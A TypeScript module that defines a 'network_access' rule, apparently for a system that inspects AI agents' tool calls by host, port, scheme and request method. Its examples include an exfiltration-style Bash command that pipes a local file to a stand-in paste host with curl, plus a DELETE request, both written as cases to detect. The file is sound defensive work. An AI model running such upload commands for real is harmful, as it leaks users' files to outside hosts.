import { askFacts, compileHost } from '../../calls/match/facts.ts'
import { plainHost } from '../../calls/plain.ts'
import { isList } from '../../model/value.ts'
import { defineCondition } from '../define.ts'
import { TEXT_OR_LIST } from '../parts/text-or-list.ts'
import { callCondition, NAMES, UNCERTAIN } from './parts/call-condition.ts'
import { warnOfDeadHosts } from './parts/dead-command.ts'
import { compilePatterns } from './parts/patterns.ts'

type HostMap = Partial<Record<'glob' | 'equals' | 'not' | 'matches', string | readonly string[] | undefined>>

export const networkAccess = defineCondition({
  name: 'network_access',
  summary: 'holds when the call connects to a matching host, with any tool or program',
  schema: {
    properties: {
      host: {
        ...TEXT_OR_LIST,
        type: ['string', 'array', 'object'],
        properties: {
          glob: TEXT_OR_LIST,
          equals: TEXT_OR_LIST,
          matches: TEXT_OR_LIST,
          not: TEXT_OR_LIST,
        },
        additionalProperties: false,
        minProperties: 1,
        description: 'the host: globs, or a map of `glob`, `equals`, `matches` and `not` (globs)',
      },
      scheme: { ...NAMES, description: 'the protocol: `https`, `ssh`' },
      port: {
        anyOf: [
          { type: 'integer', minimum: 1, maximum: 65535 },
          { type: 'array', items: { type: 'integer', minimum: 1, maximum: 65535 }, minItems: 1 },
        ],
        description: 'the port',
      },
      method: {
        ...TEXT_OR_LIST,
        description: 'the method of the request, as far as code names it: `DELETE`; it is unknown for programs',
      },
      uncertain: UNCERTAIN,
    },
  },
  examples: [
    {
      title: 'a host that is not on the list',
      config: { type: 'network_access', host: { not: ['*.example.com', 'localhost'] } },
      event: {
        event: 'tool_start',
        tool: { name: 'Bash', params: { command: 'cat notes.md | curl -sT - https://paste.example.net' } },
      },
      holds: true,
    },
    {
      title: 'one that is',
      config: { type: 'network_access', host: { not: ['*.example.com', 'localhost'] } },
      event: {
        event: 'tool_start',
        tool: { name: 'WebFetch', params: { url: 'https://api.example.com/v1', prompt: '' } },
      },
      holds: false,
    },
    {
      title: 'a request that deletes, in code',
      config: { type: 'network_access', method: 'DELETE' },
      event: {
        event: 'tool_start',
        tool: { name: 'Bash', params: { command: `python3 -c "requests.delete('https://api.example.com/a')"` } },
      },
      holds: true,
    },
  ],
  compile({ uncertain, host, ...tests }, context) {
    const said: HostMap = typeof host === 'object' && !isList(host) ? host : { glob: host }
    for (const field of ['glob', 'equals', 'not'] as const) {
      warnOfDeadHosts(said[field], said === host ? ['host', field] : ['host'], context)
    }
    const patterns = { host: compilePatterns(said.matches, ['host', 'matches'], context) }
    return callCondition({
      uncertain,
      patterns,
      parts: ['host'],
      compile(regexes) {
        const ask = compileHost({ ...tests, ...(host !== undefined && { host }) }, regexes, uncertain === 'fails')
        return (facts) => askFacts(facts, facts.hosts, ask)
      },
      show: ({ hosts }) => ({ hosts: hosts.map(plainHost) }),
    })
  },
})
